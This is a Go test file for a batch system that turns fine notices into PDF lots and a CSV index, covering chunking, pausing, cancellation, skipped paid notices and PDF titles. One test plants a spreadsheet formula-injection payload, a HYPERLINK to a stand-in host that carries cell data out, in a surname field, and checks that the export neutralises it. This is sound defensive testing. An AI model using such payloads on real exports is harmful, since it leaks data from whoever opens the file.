package lotto_test

import (
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"

	banchi "github.com/piattaforma-verbali/verbali/elaborazione/internal/banco"
	"github.com/piattaforma-verbali/verbali/elaborazione/internal/lotto"
	"github.com/piattaforma-verbali/verbali/elaborazione/internal/vita/conseguenze"
	"github.com/piattaforma-verbali/verbali/shared/spine/problem"
	"github.com/piattaforma-verbali/verbali/shared/verbale"
)

// TestPorzioni: a lot of five in chunks of two; each message counts once, however often and in what order it comes.
func TestPorzioni(t *testing.T) {
	t.Parallel()
	b := nuovoBanco(t)
	b.conAtto(t, 5)
	id := b.chiude(t)
	if l := b.lotto(t, id); l.Stato != verbale.LottoAccodato || l.Voci != (lotto.Conteggi{Totale: 5, InAttesa: 5}) || !slices.Equal(b.lavori(t), []int{1}) {
		t.Fatalf("%+v %v", l, b.lavori(t))
	}
	b.lavora(t, id, "tre", 3)
	if l := b.lotto(t, id); l.Voci.InAttesa != 5 {
		t.Fatalf("lavora una porzione che non viene ancora: %+v", l.Voci)
	}
	for range 2 {
		if l := b.lavora(t, id, "uno", 1); l.Voci.OK != 2 || l.Stato != verbale.LottoInCorso {
			t.Fatalf("%+v", l)
		}
	}
	b.lavora(t, id, "uno di nuovo", 1)
	if l := b.lavora(t, id, "due", 2); l.Voci.OK != 4 || !slices.Equal(b.lavori(t), []int{1, 2, 3}) {
		t.Fatalf("%+v %v", l, b.lavori(t))
	}
	l := b.lavora(t, id, "tre di nuovo", 3)
	if l.Stato != verbale.LottoCompletato || l.Voci != (lotto.Conteggi{Totale: 5, OK: 5}) {
		t.Fatalf("%+v", l)
	}
	if n := b.leggi(t, `SELECT count(*)::text FROM evento WHERE tipo = 'NOTIFICA_AVVIATA'`)[0]; n != "5" {
		t.Errorf("%s notifiche avviate", n)
	}
	if doppie := b.leggi(t, `SELECT nome FROM lotto_file GROUP BY nome HAVING count(*) > 1`); len(doppie) > 0 {
		t.Error(doppie)
	}
}

// TestPausaEAnnullamento: a paused lot stands still and goes on where it was; a cancelled one leaves what is not done.
func TestPausaEAnnullamento(t *testing.T) {
	t.Parallel()
	b := nuovoBanco(t)
	b.conAtto(t, 5)
	id := b.chiude(t)
	b.lavora(t, id, "uno", 1)
	comanda := func(c lotto.Comando, vuole verbale.StatoLotto) {
		t.Helper()
		if l, err := b.Comanda(b.ctx, id, c); err != nil || l.Stato != vuole {
			t.Fatalf("%s: %+v %v", c, l, err)
		}
	}
	comanda(lotto.Pausa, verbale.LottoInPausa)
	if l := b.lavora(t, id, "due", 2); l.Voci.OK != 2 || l.Stato != verbale.LottoInPausa {
		t.Fatalf("lavora in pausa: %+v", l)
	}
	if _, err := b.Comanda(b.ctx, id, lotto.Chiudi); !problem.Is(err, "LOTTO_IN_ALTRO_STATO") {
		t.Error(err)
	}
	comanda(lotto.Riprendi, verbale.LottoAccodato)
	if l := b.lavora(t, id, "due di nuovo", 2); l.Voci.OK != 4 {
		t.Fatalf("%+v", l)
	}
	comanda(lotto.Annulla, verbale.LottoInAnnullamento)
	if l := b.lavora(t, id, "tre", 3); l.Stato != verbale.LottoAnnullato || l.Voci != (lotto.Conteggi{Totale: 5, OK: 4, Annullati: 1}) {
		t.Fatalf("%+v", l)
	}
	altro, err := b.Crea(b.ctx, lotto.Richiesta{Tipo: verbale.LottoPostale, Filtro: &lotto.Filtro{}})
	if err != nil || altro.Voci.Totale != 1 {
		t.Fatalf("ciò che fu annullato non torna: %+v %v", altro, err)
	}
}

// TestChiHaPagatoNonParte: who paid between the closing and the work is skipped, and the package does not have him.
func TestChiHaPagatoNonParte(t *testing.T) {
	t.Parallel()
	b := nuovoBanco(t)
	ids := b.conAtto(t, 2)
	id := b.chiude(t)
	totale := int64(1_000_00)
	if _, _, err := b.stanze.Pratiche.RegistraPagamento(b.ctx, conseguenze.RichiestaPagamento{IDVerbale: ids[0].String(), ImportoCent: &totale, Data: "2026-11-20",
		Canale: "SPORTELLO", Riferimento: "1"}); err != nil {
		t.Fatal(err)
	}
	l := b.lavora(t, id, "uno", 1)
	if l.Stato != verbale.LottoCompletato || l.Voci != (lotto.Conteggi{Totale: 2, OK: 1, Saltati: 1}) {
		t.Fatalf("%+v", l)
	}
	saltata := b.leggi(t, `SELECT motivo || ' ' || file FROM voce WHERE stato = 'SALTATO'`)
	if len(saltata) != 1 || saltata[0] == " " {
		t.Error(saltata)
	}
	if pagine := b.leggi(t, `SELECT string_agg(pagina_da || '-' || pagina_a, ' ') FROM voce WHERE stato = 'OK'`); fmt.Sprint(pagine) == "[]" {
		t.Error(pagine)
	}
	x := b.informa(t, "pdf/0001.pdf")
	if ha := fmt.Sprintf("1-%d", x.Pagine); !slices.Equal(b.leggi(t, `SELECT pagina_da || '-' || pagina_a FROM voce WHERE stato = 'OK'`), []string{ha}) || x.Pagine%2 != 0 {
		t.Errorf("il file ha le pagine %s", ha)
	}
}

// TestTitoloDelFile: each file of a lot says which it is, and nothing of the first act in it.
func TestTitoloDelFile(t *testing.T) {
	t.Parallel()
	b := nuovoBanco(t)
	b.conAtto(t, 3)
	id := b.chiude(t)
	b.lavora(t, id, "uno", 1)
	l := b.lavora(t, id, "due", 2)
	for i, nome := range []string{"pdf/0001.pdf", "pdf/0002.pdf"} {
		x := b.informa(t, nome)
		if voluto := fmt.Sprintf("Lotto %s, parte %d di 2 - Polizia Locale di alfa", l.Nome, i+1); x.Titolo != voluto || x.Autore != "Polizia Locale di alfa" {
			t.Errorf("%q di %q, want %q", x.Titolo, x.Autore, voluto)
		}
	}
}

// informa reads what a file of the only lot says of itself.
func (b *banco) informa(t *testing.T, nome string) banchi.InfoPDF {
	t.Helper()
	pdf, err := b.Deposito.Leggi(b.ctx, "alfa", b.leggi(t, `SELECT sha256 FROM lotto_file WHERE nome = '`+nome+`'`)[0])
	if err != nil {
		t.Fatal(err)
	}
	return banchi.InformaPDF(t, pdf)
}

// TestIndiceSenzaFormule: what a stranger made the name and the address of somebody is no formula for who opens the index.
func TestIndiceSenzaFormule(t *testing.T) {
	t.Parallel()
	b := nuovoBanco(t)
	ids := b.conAtto(t, 1)
	b.Esegui(t, "elaborazione", "alfa", `UPDATE soggetto SET cognome = '=HYPERLINK("http://x.example?"&A1)', indirizzo = '@SUM(A1)'
		WHERE id IN (SELECT soggetto FROM posizione WHERE verbale = $1)`, ids[0])
	b.lavora(t, b.chiude(t), "m", 1)
	indice, err := b.Deposito.Leggi(b.ctx, "alfa", b.leggi(t, `SELECT sha256 FROM lotto_file WHERE nome = 'index.csv'`)[0])
	if err != nil {
		t.Fatal(err)
	}
	testo, segnato := strings.CutPrefix(string(indice), "\ufeff")
	if !segnato || !strings.Contains(testo, `"'=HYPERLINK(`) || !strings.Contains(testo, "'@SUM(A1)") {
		t.Errorf("%q", indice)
	}
	lettore := csv.NewReader(strings.NewReader(testo))
	lettore.Comma = ';'
	righe, err := lettore.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cella := range slices.Concat(righe...) {
		if cella != "" && strings.ContainsRune("=+-@", rune(cella[0])) {
			t.Errorf("a spreadsheet runs %q", cella)
		}
	}
}

// TestProdotto: a judicial act by post inside Italy, a registered letter abroad.
func TestProdotto(t *testing.T) {
	t.Parallel()
	b := nuovoBanco(t)
	ids := b.conAtto(t, 2)
	b.Esegui(t, "elaborazione", "alfa", `UPDATE soggetto SET nazione = 'DE' WHERE id IN (SELECT soggetto FROM posizione WHERE verbale = $1)`, ids[0])
	id := b.chiude(t)
	b.lavora(t, id, "m", 1)
	indice, err := b.Deposito.Leggi(b.ctx, "alfa", b.leggi(t, `SELECT sha256 FROM lotto_file WHERE nome = 'index.csv'`)[0])
	if err != nil {
		t.Fatal(err)
	}
	var prodotti []string
	for riga := range strings.Lines(string(indice)) {
		celle := strings.Split(riga, ";")
		prodotti = append(prodotti, celle[16]+" "+celle[5])
	}
	if ha := strings.Join(prodotti, ", "); ha != "nazione prodotto, IT AG, DE AR" {
		t.Error(ha)
	}
}
